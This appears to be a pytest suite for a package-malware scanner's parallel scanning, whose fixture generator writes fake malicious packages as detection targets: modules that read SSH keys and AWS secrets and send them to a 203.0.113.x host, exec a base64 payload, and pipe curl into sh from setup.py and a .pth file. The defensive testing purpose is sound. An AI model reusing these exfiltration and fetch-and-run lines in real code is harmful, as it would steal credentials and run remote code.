"""The per-file pass across processes (`analysis.parallel`) gives what the serial pass gives:
the same findings, skipped files and order, the same progress; a cancelled scan stops and
kills its processes; a process that dies loses no file.

Real parts throughout: a generated package tree, the engine's plan, the forkserver and its
scanning processes. Nothing from the tree is imported or run."""

from __future__ import annotations

import gc
import logging
import multiprocessing
import os
import signal
import time
import weakref
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from package_analysis.analysis import engine, parallel
from package_analysis.analysis.model import PackageRef
from package_analysis.analysis.rules import metadata
from package_analysis.analysis.rules.base import Sink

REF = PackageRef("pypi", "fixture", "1.0", "pkg:pypi/fixture@1.0")

_MODULE = '''"""Module {i}: code the rules look at, never run."""
import base64
import os
import subprocess
import urllib.request

PAYLOAD = "{payload}"
TOKEN = os.environ.get("AWS_SECRET_ACCESS_KEY")


def helper_{i}(value):
    return value * {i}


def beacon_{i}():
    data = open(os.path.expanduser("~/.ssh/id_rsa")).read()
    urllib.request.urlopen("http://203.0.113.{i}/c", data=data.encode())


exec(base64.b64decode(PAYLOAD))
subprocess.Popen("curl -s http://203.0.113.{i}/x.sh | sh", shell=True)
'''

_PLAIN = '''"""Module {i}: ordinary code."""


def add_{i}(a, b):
    total = a + b
    for step in range({i}):
        total += step
    return total
'''


def _fixture(root: Path, modules: int = 90) -> Path:
    """A package of `modules` modules (a third with load-time findings, some that do not
    parse), a setup.py that imports some of them, its metadata and a .pth file."""
    top = root / "fixture-1.0"
    pkg = top / "fixture"
    pkg.mkdir(parents=True)
    (pkg / "__init__.py").write_text("from . import mod0\n")
    imports = []
    for i in range(modules):
        if i % 3 == 0:
            payload = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgaHR0cDovLzIwMy4wLjExMy45L3wgc2gnKQ=="
            text = _MODULE.format(i=i, payload=payload)
        elif i % 11 == 5:
            text = f"def broken_{i}(:\n    exec(base64.b64decode('eA=='))\n"
        else:
            text = _PLAIN.format(i=i) * (1 + i % 4)
        (pkg / f"mod{i}.py").write_text(text)
        if i % 9 == 0:
            imports.append(f"import fixture.mod{i}")
    (top / "setup.py").write_text(
        "import os\nfrom setuptools import setup\n"
        + "\n".join(imports)
        + "\nos.system('curl http://203.0.113.7/i.sh | sh')\n"
        + "setup(name='fixture', version='1.0', packages=['fixture'])\n"
    )
    (top / "PKG-INFO").write_text("Metadata-Version: 2.1\nName: fixture\nVersion: 1.0\n")
    (top / "fixture.pth").write_text("import os; os.system('id')\n")
    (top / "README.md").write_text("A fixture.\n")
    return root


def _scan(
    root: Path,
    procs: int,
    *,
    check: Callable[[], None] | None = None,
    on_file: Callable[[int, int], None] | None = None,
    after_plan: Callable[[Any], None] | None = None,
) -> tuple[list[dict[str, Any]], list[dict[str, str]], list[tuple[int, int]]]:
    """Plan, then the per-file pass with `procs` processes (parallel at any size)."""
    skipped: list[dict[str, str]] = []
    run = engine._Run(root, metadata.ecosystem_of("pypi"), Sink(artifact="a" * 64), skipped)
    run.plan(REF)
    if after_plan is not None:
        after_plan(run)
    progress: list[tuple[int, int]] = []

    def seen(i: int, n: int) -> None:
        progress.append((i, n))
        if on_file is not None:
            on_file(i, n)

    parallel.scan_files(run, check, seen, procs=procs, min_parse_bytes=0)
    return [f.as_dict() for f in run.sink.findings], skipped, progress


def _alive(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    return True


def test_parallel_findings_skipped_and_progress_are_the_serial_ones(tmp_path: Path) -> None:
    root = _fixture(tmp_path)
    serial = _scan(root, 1)
    assert len(serial[0]) > 50, "the fixture should give many findings"
    assert any("does not parse" in s["reason"] for s in serial[1])
    assert serial[2] == [(i, serial[2][-1][1]) for i in range(1, serial[2][-1][1] + 1)]
    for procs in (2, 3):
        assert _scan(root, procs) == serial


def test_a_file_that_fails_in_a_scanning_process_is_skipped_as_serially(tmp_path: Path) -> None:
    root = _fixture(tmp_path)
    gone = "fixture-1.0/fixture/mod3.py"  # planned, then gone: reading it raises

    def vanish(run: Any) -> None:
        assert gone in run.parse
        (root / gone).rename(root / "moved.py")

    serial = _scan(root, 1, after_plan=vanish)
    (root / "moved.py").rename(root / gone)
    parallel_run = _scan(root, 2, after_plan=vanish)
    assert parallel_run == serial
    assert {"file": gone, "reason": "error while scanning: FileNotFoundError"} in serial[1]


def test_the_cap_on_findings_counts_across_files_as_serially(tmp_path: Path) -> None:
    root = _fixture(tmp_path, modules=1200)  # over MAX_FINDINGS in all
    serial = _scan(root, 1)
    assert len(serial[0]) == 500
    assert _scan(root, 2) == serial


def test_cancelling_stops_the_scan_and_kills_its_processes(tmp_path: Path) -> None:
    root = _fixture(tmp_path, modules=600)
    pids: set[int] = set()
    calls = {"n": 0}

    class Cancelled(Exception):
        pass

    def check() -> None:
        pids.update(p.pid for p in multiprocessing.active_children() if p.pid)
        calls["n"] += 1
        if calls["n"] >= 3:
            raise Cancelled

    started = time.monotonic()
    with pytest.raises(Cancelled):
        _scan(root, 2, check=check)
    assert time.monotonic() - started < 20
    assert pids, "the scan should have started its processes"
    assert not [pid for pid in pids if _alive(pid)]
    assert not [p for p in multiprocessing.active_children() if p.pid in pids]


@pytest.mark.parametrize("kill_all", [False, True])
def test_a_killed_scanning_process_loses_no_file(
    tmp_path: Path,
    caplog: pytest.LogCaptureFixture,
    monkeypatch: pytest.MonkeyPatch,
    kill_all: bool,
) -> None:
    monkeypatch.setenv(parallel.ENV, "3")  # this process and two started ones
    monkeypatch.setattr(parallel, "_slots", None)
    root = _fixture(tmp_path, modules=300)
    serial = _scan(root, 1)
    killed: list[int] = []

    def check() -> None:  # runs in this process before its first file, the others started
        if killed:
            return
        for proc in multiprocessing.active_children():
            if proc.pid and (kill_all or not killed):
                os.kill(proc.pid, signal.SIGKILL)
                killed.append(proc.pid)

    with caplog.at_level(logging.WARNING, logger="packamal.analysis"):
        got = _scan(root, 3, check=check)
    assert len(killed) == (2 if kill_all else 1)
    assert got == serial
    assert "a scanning process ended (exit code" in caplog.text


def test_a_small_tree_stays_serial(tmp_path: Path) -> None:
    root = _fixture(tmp_path, modules=6)
    run = engine._Run(root, metadata.ecosystem_of("pypi"), Sink(artifact=""), [])
    run.plan(REF)
    children: list[int] = []

    def on_file(i: int, n: int) -> None:
        children.extend(p.pid or 0 for p in multiprocessing.active_children())

    before = {p.pid for p in multiprocessing.active_children()}
    parallel.scan_files(run, None, on_file, procs=4)
    assert not set(children) - before


def test_the_setting(monkeypatch: pytest.MonkeyPatch) -> None:
    cpus = parallel.usable_cpus()
    assert 1 <= cpus <= (os.cpu_count() or 1)
    monkeypatch.delenv(parallel.ENV, raising=False)
    assert parallel.processes() == min(cpus, 4)
    monkeypatch.setenv(parallel.ENV, "1")
    assert parallel.processes() == 1
    monkeypatch.setenv(parallel.ENV, "0")
    assert parallel.processes() == 1
    monkeypatch.setenv(parallel.ENV, "six")
    assert parallel.processes() == min(cpus, 4)


@pytest.mark.parametrize(
    ("files", "v2", "cpus"),
    [
        ({"cpu.max": "150000 100000\n"}, True, 1),
        ({"cpu.max": "400000 100000\n"}, True, 4),
        ({"cpu.max": "max 100000\n"}, True, None),
        ({"cpu.cfs_quota_us": "250000\n", "cpu.cfs_period_us": "100000\n"}, False, 2),
        ({"cpu.cfs_quota_us": "-1\n", "cpu.cfs_period_us": "100000\n"}, False, None),
        ({}, True, None),
    ],
)
def test_a_cgroup_quota_in_whole_cpus(
    tmp_path: Path, files: dict[str, str], v2: bool, cpus: int | None
) -> None:
    for name, text in files.items():
        (tmp_path / name).write_text(text)
    assert parallel._quota(tmp_path, v2=v2) == cpus


def test_the_run_is_freed_when_the_scan_ends(tmp_path: Path) -> None:
    """No reference cycle keeps the run (and its YARA-X scanner, which must be dropped on the
    thread that made it) alive until a garbage collection, maybe on another thread."""
    root = _fixture(tmp_path, modules=60)
    run = engine._Run(root, metadata.ecosystem_of("pypi"), Sink(artifact=""), [])
    run.plan(REF)
    parallel.scan_files(run, procs=2, min_parse_bytes=0)
    assert run.sink.findings
    gone = weakref.ref(run)
    gc.disable()
    try:
        del run
        assert gone() is None
    finally:
        gc.enable()


def test_a_relative_root_is_read_from_the_same_folder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The forkserver was started in another folder: a scanning process still reads a
    relative root from this process's folder (multiprocessing moves it there)."""
    _scan(_fixture(tmp_path / "elsewhere", modules=10), 2)  # the forkserver runs
    _fixture(tmp_path / "here", modules=30)
    monkeypatch.chdir(tmp_path / "here")
    serial = _scan(Path("."), 1)
    assert serial[0]
    assert _scan(Path("."), 2) == serial


_PRELOAD_PROBE = """
import sys
sys.path.insert(0, {backend!r})  # found through a path this program added, as manage.py does
from pathlib import Path
from package_analysis.analysis import engine, parallel
from package_analysis.analysis.model import PackageRef
from package_analysis.analysis.rules import metadata
from package_analysis.analysis.rules.base import Sink

if __name__ == "__main__":
    run = engine._Run(Path({root!r}), metadata.ecosystem_of("pypi"), Sink(artifact=""), [])
    run.plan(PackageRef("pypi", "fixture", "1.0", "pkg:pypi/fixture@1.0"))
    parallel.scan_files(run, procs=2, min_parse_bytes=0)
    print(len(run.sink.findings))
"""


def test_the_forkserver_preloads_the_engine_from_anywhere(tmp_path: Path) -> None:
    """A program that put the engine on its path itself, run from another folder: the
    forkserver still imports the engine and compiles the rules once, for every scanning
    process (Python 3.11's forkserver ignored that path and failed its preload silently)."""
    import subprocess
    import sys

    root = _fixture(tmp_path / "tree", modules=30)
    backend = Path(engine.__file__).resolve().parents[2]
    script = tmp_path / "probe.py"
    script.write_text(_PRELOAD_PROBE.format(backend=str(backend), root=str(root)))
    env = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"}
    done = subprocess.run(
        [sys.executable, str(script)],
        cwd=tmp_path,
        env=env,
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    assert int(done.stdout.split()[-1]) > 0
    assert "did not preload the engine" not in done.stderr
    assert "scanning them here" not in done.stderr  # no scanning process failed
